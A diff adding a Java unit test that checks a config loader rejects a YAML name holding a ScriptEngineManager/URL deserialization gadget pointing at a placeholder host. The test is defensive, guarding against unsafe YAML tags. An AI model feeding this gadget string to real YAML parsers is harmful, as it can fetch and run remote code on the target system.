@@ -37,6 +37,16 @@ final class ConfLoaderTest {
   }
 
   @Test
+  void yamlNamesNoClasses() {
+    assertThatThrownBy(
+            () ->
+                ConfFixture.demo(
+                    "name=!!javax.script.ScriptEngineManager [!!java.net.URL ['http://x/']]"))
+        .isInstanceOf(InvalidConfException.class)
+        .hasMessageContaining("Invalid name: ");
+  }
+
+  @Test
   void demoHoldsItsValues() {
     RunConfig config = ConfFixture.demo().config();
 
